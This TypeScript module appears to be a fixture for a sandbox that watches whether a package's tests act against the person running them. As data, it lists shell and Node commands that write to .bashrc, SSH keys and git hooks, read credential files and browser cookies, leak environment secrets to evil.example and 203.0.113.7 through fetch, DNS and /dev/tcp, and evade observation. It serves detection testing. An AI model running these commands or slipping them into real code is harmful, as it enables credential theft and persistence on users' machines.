/** What a result's own test can do to the person who runs it, as a line of a shell. */
export type Act = readonly [name: string, line: string];

const quoted = (text: string): string => `'${text.replaceAll("'", "'\\''")}'`;

/** Ways to write a file and to read one. `$1` is its path. */
const WRITERS = {
  sh: 'mkdir -p "$(dirname "$1")" 2>/dev/null; echo evil >> "$1"',
  node: `node -e 'const fs = require("fs"), at = process.argv[1]; try { fs.mkdirSync(require("path").dirname(at), { recursive: true }) } catch {} fs.appendFileSync(at, "evil")' "$1"`,
  perl: `perl -e 'open my $f, ">>", $ARGV[0] or exit 1; print $f "evil"' "$1"`,
  cp: 'echo evil > "$TMPDIR/evil"; cp "$TMPDIR/evil" "$1"',
} as const;
const READERS = {
  sh: 'read -r line < "$1"; echo "$line"',
  node: `node -e 'console.log(require("fs").readFileSync(process.argv[1], "utf8"))' "$1"`,
  perl: `perl -e 'open my $f, "<", $ARGV[0] or exit 1; print <$f>' "$1"`,
  tar: 'tar cf - "$1" 2>/dev/null | cat',
} as const;

const WRITTEN = [
  ...['.bashrc', '.profile', '.zshrc', '.ssh/authorized_keys', '.gitconfig', '.config/git/hooks/pre-commit', '.npmrc'],
  ...['.claude/settings.json', '.config/systemd/user/w.service', '.config/autostart/w.desktop', '.local/bin/git'],
  ...['Library/LaunchAgents/w.plist', '.vscode/tasks.json', '.cache/pip/w', '.node_modules/w.js'],
].map((path) => `$HOME/${path}`);
const ELSEWHERE = ['/etc/cron.d/w', '/usr/local/bin/ls', '$CHECKOUT/.git/hooks/post-checkout', '$CHECKOUT/src/a.txt'];
const FURTHER = ['$OUT/w', '$STORE/w', '.git/hooks/pre-commit', '.git/config', 'sub/.git/config', '../../w'];

const SECRETS = [
  ...['.ssh/id_rsa', '.aws/credentials', '.netrc', '.npmrc', '.config/gh/hosts.yml', '.docker/config.json'],
  ...['.bash_history', '.config/google-chrome/Default/Cookies', '.kube/config', '.gnupg/private-keys-v1.d/w.key'],
].map((path) => `$HOME/${path}`);
const ALSO_READ = ['$CHECKOUT/.env', '$OUT/private', '/proc/1/environ'];

const each = (verb: string, ways: Readonly<Record<string, string>>, paths: readonly string[]): Act[] =>
  Object.entries(ways).flatMap(([by, way]) =>
    paths.map((path): Act => [`${verb} ${path} by ${by}`, `set -- "${path}"; ${way}`]),
  );

const node = (source: string): string => `node -e ${quoted(source)}`;
const LATER = 'setTimeout(() => process.exit(), 1500);';

/** Ways out: `$PORT` is a listener of the person. */
const CONNECTED: readonly Act[] = [
  ['a request by fetch', node(`fetch("http://203.0.113.7/?" + process.env.KEY).catch(() => {}); ${LATER}`)],
  [
    'a request by another name',
    node(`const { ["fe" + "tch"]: go } = globalThis; go("http://203.0.113.7/").catch(() => {}); ${LATER}`),
  ],
  ['a name looked up', node(`require("dns").lookup(process.env.KEY + ".evil.example", () => {}); ${LATER}`)],
  ['a record looked up', node(`require("dns").resolveTxt(process.env.KEY + ".evil.example", () => {}); ${LATER}`)],
  [
    'a resolver of its own',
    node(
      `const r = new (require("dns").Resolver)(); r.setServers(["203.0.113.53"]); r.resolve("a.evil.example", () => {}); ${LATER}`,
    ),
  ],
  ['a datagram', node(`require("dgram").createSocket("udp4").send("x", 53, "203.0.113.53", () => process.exit())`)],
  [
    'a datagram over IPv6',
    node(`require("dgram").createSocket("udp6").send("x", 53, "2001:db8::53", () => process.exit())`),
  ],
  ['a connection', node(`require("net").connect(443, "203.0.113.7").on("error", () => {}); ${LATER}`)],
  [
    'a connection to a service of the person',
    node(`require("net").connect(+process.env.PORT, "127.0.0.1").on("error", () => {}); ${LATER}`),
  ],
  ['a database of the person', node(`require("net").connect(5432, "127.0.0.1").on("error", () => {}); ${LATER}`)],
  ['the socket of docker', node(`require("net").connect("/var/run/docker.sock").on("error", () => {}); ${LATER}`)],
  ['the agent of ssh', node(`require("net").connect(process.env.OUT + "/agent.sock").on("error", () => {}); ${LATER}`)],
  ['a socket without a file', node(`require("net").connect("\\0backlog-act").on("error", () => {}); ${LATER}`)],
  [
    'a connection by perl',
    `perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr => "203.0.113.7:80", Timeout => 1)'`,
  ],
  ['a connection by bash', `bash -c 'exec 3<>/dev/tcp/203.0.113.7/80'`],
  [
    'a connection through a worker',
    node(
      `const { Worker } = require("worker_threads"); new Worker("require('net').connect(443, '203.0.113.7').on('error', () => {})", { eval: true }); ${LATER}`,
    ),
  ],
  [
    'a connection of a child of a child',
    `(setsid sh -c ${quoted(node(`require("net").connect(443, "203.0.113.7").on("error", () => {}); ${LATER}`))} &) ; sleep 2`,
  ],
];

/** Programs that a test starts at the person's machine. */
const STARTED: readonly Act[] = [
  ...[
    'curl http://203.0.113.7',
    'wget -q http://203.0.113.7',
    'ssh evil.example',
    'scp a evil.example:',
    'nc -w1 203.0.113.7 80',
  ],
  ...['crontab -l', 'systemctl --user daemon-reload', 'at now', 'docker ps', 'git config --global a.b c'],
  ...[
    'gpg --list-secret-keys',
    'security dump-keychain',
    'osascript -e 1',
    'npm publish',
    'sudo -n true',
    'xdg-open http://evil.example',
  ],
].flatMap((line): Act[] => [
  [`${line} by the shell`, `${line} 2>/dev/null`],
  [
    `${line} by node`,
    node(
      `require("child_process").spawnSync(${JSON.stringify(line.split(' ')[0])}, ${JSON.stringify(line.split(' ').slice(1))})`,
    ),
  ],
]);

/** Ways that hide a write. Each changes something below the home folder or in the checkout. */
const HIDDEN: readonly Act[] = [
  ['a write in another folder', 'cd "$HOME" && echo evil >> .bashrc'],
  ['a write through a link', 'ln -s "$HOME" "$TMPDIR/l" && echo evil >> "$TMPDIR/l/.bashrc"'],
  ['a write through the root of this process', 'echo evil >> /proc/self/root$HOME/.bashrc'],
  ['a file moved there', 'echo evil > "$TMPDIR/m"; mv "$TMPDIR/m" "$HOME/.profile"'],
  ['a link made there', 'ln -s /bin/sh "$HOME/.local-sh"'],
  ['a folder made there', 'mkdir "$HOME/.ssh-new"'],
  ['a deletion', 'rm -f "$HOME/.bashrc"'],
  ['a mode', 'chmod 777 "$HOME"'],
  ['a write of a process that stays', '(setsid sh -c "sleep 0.2; echo evil >> $HOME/.bashrc" &); sleep 0.6'],
  [
    'a write by a worker',
    node(
      `const { Worker } = require("worker_threads"); new Worker("require('fs').appendFileSync(process.env.HOME + '/.bashrc', 'evil')", { eval: true })`,
    ),
  ],
  ['a write without marks', 'env -i HOME="$HOME" PATH="$PATH" setsid sh -c \'echo evil >> "$HOME/.bashrc"\''],
  ['a name of many dots', 'echo evil >> "$TMPDIR/../../../../../../../../../../..$HOME/.bashrc"'],
  [
    'a deletion from a name that imitates the end of a call',
    'mkdir "$TMPDIR/a) = 0" && cd "$TMPDIR/a) = 0" && touch b && perl -e \'rename "b", "$ENV{HOME}/.bashrc"\'',
  ],
  [
    'a deletion in another folder',
    node('process.chdir(process.env.HOME); try { require("fs").unlinkSync(".bashrc") } catch {}'),
  ],
  ['a folder made in another folder of a parent', 'cd "$HOME" && perl -e \'mkdir ".ssh-new", 0700\''],
  [
    'a folder made through a link to a folder above',
    'mkdir -p "$TMPDIR/p" && ln -s ../../../.. "$TMPDIR/p/l" && mv "$TMPDIR/p" "$TMPDIR/q" && mkdir "$TMPDIR/q/l/w"',
  ],
  ['a key through the root of a thread', 'cat "/proc/self/task/$(sh -c \'echo $PPID\')/root$HOME/.gnupg/w.key"'],
  ['the terminals of the person', node('require("net").connect("/tmp/tmux-0/default").on("error", () => {})')],
  [
    'a service of the person beside a server of its own',
    node(
      'const s = require("net").createServer().listen(0, () => require("net").connect(63342).on("error", () => s.close()))',
    ),
  ],
  [
    'a question over TCP',
    node('require("dns").lookup("usual.example", () => require("net").connect(53, "127.0.0.1").on("error", () => {}))'),
  ],
  ['a program with the name of another one', 'cp "$(command -v sleep)" perl && ./perl 0; rm perl'],
  [
    'an archive that leaves its folder',
    'cd "$TMPDIR" && mkdir -p t && echo evil > t/w && tar cf t.tar t && tar xf t.tar -C "$HOME"',
  ],
];

/** Calls of the kernel that no test needs. They are denied, which leaves no trace but the failure. */
export const CALLS: readonly Act[] = [
  [
    'the keys of the session',
    `perl -e 'my $id = syscall($ARGV[0], 0, -3, 1); exit 1 if $id < 0; print "secret-of-keys"' "$KEYCTL"`,
  ],
  ['the names of all keys', 'grep -q . /proc/keys && echo secret-of-keys'],
  [
    'a debugger',
    `perl -e 'exit 1 if syscall($ARGV[0], 0x4206, getppid(), 0, 0) != 0; print "secret-of-keys"' "$PTRACE"`,
  ],
  ['a namespace of its own', 'unshare -Ur true && echo secret-of-keys'],
  ['a ring of calls', `perl -e 'my $p = "\\0" x 120; exit 1 if syscall(425, 4, $p) < 0; print "secret-of-keys"'`],
  [
    'a filter of calls that hides them from an observer',
    `perl -e 'my $f = pack("SCCL", 6, 0, 0, 0x7fff0000); my $p = pack("Sx6P", 1, $f); exit 1 if syscall($ARGV[0], 1, 8, $p) < 0; print "secret-of-keys"' "$SECCOMP"`,
  ],
  [
    'a call that observers do not know',
    `perl -e 'my $at = "$ENV{TMPDIR}"; exit 1 if syscall(452, -100, $at, 0700, 0) < 0; print "secret-of-keys"'`,
  ],
  ['a packet socket', `perl -e 'use Socket; socket(my $s, 17, 3, 0) or exit 1; print "secret-of-keys"'`],
  ['a mount', 'mount -t tmpfs none "$TMPDIR" && echo secret-of-keys'],
];

/** Acts whose effects an observer sees. */
export const ACTS: readonly Act[] = [
  ...each('writes', WRITERS, [...WRITTEN, ...ELSEWHERE, ...FURTHER]),
  ...each('reads', READERS, [...SECRETS, ...ALSO_READ]),
  ...CONNECTED,
  ...STARTED,
  ...HIDDEN,
];
